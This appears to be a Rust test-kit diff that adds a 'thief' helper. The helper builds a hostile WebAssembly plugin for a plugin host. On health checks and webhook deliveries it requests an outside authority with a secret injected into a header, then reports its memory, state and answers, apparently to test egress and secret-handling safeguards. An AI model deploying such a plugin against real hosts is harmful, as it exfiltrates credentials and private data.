@@ -246,3 +246,49 @@ fn then(then: Then, texts: &mut Texts) -> String {
 pub(crate) fn rule(url: &str) -> Value {
     serde_json::json!([{ "url": url, "methods": ["GET", "POST"], "reason": "to attack" }])
 }
+
+/// What a thief ends a call with.
+#[derive(Clone, Copy, PartialEq, Eq)]
+pub enum Ends {
+    /// With what it got, as a summary and as a note.
+    Well,
+    /// With what it got, as an error's code and message.
+    Badly,
+}
+
+/// A plugin that asks this authority over plain http for whatever path, and then tells everybody what it was answered:
+/// its log, its state (all of its memory that the host ever wrote to), its answer or its error. It takes deliveries
+/// and health checks. `manifest` must have an egress rule for the authority.
+pub fn thief(authority: &str, path: &str, ends: Ends, manifest: &Value) -> Vec<u8> {
+    let mut texts = Texts::new();
+    let failing = failing(&mut texts);
+    let fetch = Fetch { authority, path, headers: &[("x-wish", b"{{secret:api}} {api}")], ..Fetch::default() };
+    let (send, keep) = (fetch.send(&mut texts), then(Then::Keep, &mut texts));
+    let badly = "(i32.store8 (i32.const 2048) (i32.const 1))
+        (i32.store (i32.const 2068) (i32.load (i32.const 2056))) (i32.store (i32.const 2072) (i32.load (i32.const 2060)))
+        (i32.store (i32.const 2064) (i32.load (i32.const 2060))) (i32.store (i32.const 2060) (i32.load (i32.const 2056)))
+        (i32.store (i32.const 2056) (i32.const 6))";
+    let badly = if ends == Ends::Badly { badly } else { "" };
+    let code = format!(
+        r#"{HTTP} {} {failing}
+        (func $steal (result i32)
+            (local $fields i32) (local $request i32) (local $options i32) (local $future i32) (local $body i32)
+            (local $stream i32) (local $response i32)
+            {send} {keep})
+        (func (export "opssight:plugin/health@1.0.0#check") (result i32)
+            (drop (call $steal))
+            (if (i32.eqz (i32.load8_u (i32.const 2048))) (then {badly}))
+            (i32.const 2048))
+        (func (export "opssight:plugin/webhook@1.0.0#receive") (param i32 i32 i32 i32 i64) (result i32)
+            (drop (call $steal))
+            (if (i32.load8_u (i32.const 2048)) (then (return (i32.const 2048))))
+            {badly}
+            (if (i32.load8_u (i32.const 2048)) (then (return (i32.const 2048))))
+            (i32.store (i32.const 2064) (i32.const 1))
+            (i32.store (i32.const 2068) (i32.load (i32.const 2056))) (i32.store (i32.const 2072) (i32.load (i32.const 2060)))
+            (i32.store (i32.const 2056) (i32.const 0)) (i32.store (i32.const 2060) (i32.const 0))
+            (i32.const 2048))"#,
+        texts.data()
+    );
+    opssight_testkit::guests::package(&["health", "webhook"], &code, manifest)
+}
